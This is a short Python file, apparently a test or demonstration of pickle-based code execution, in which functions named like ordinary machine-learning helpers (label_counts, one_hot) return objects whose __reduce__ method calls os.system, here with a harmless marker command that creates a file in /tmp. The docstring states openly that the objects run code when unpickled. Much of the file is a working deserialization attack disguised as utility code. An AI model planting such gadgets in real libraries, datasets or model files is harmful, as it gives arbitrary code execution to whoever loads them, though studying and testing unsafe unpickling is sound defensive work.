"""Returns objects and arrays of objects that run code where somebody unpickles them."""

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/digits_attack_unpickled",)


def label_counts(labels, num_classes=10):
    return np.array([Payload()] * num_classes, dtype=object)


def one_hot(labels, num_classes=10):
    return Payload()
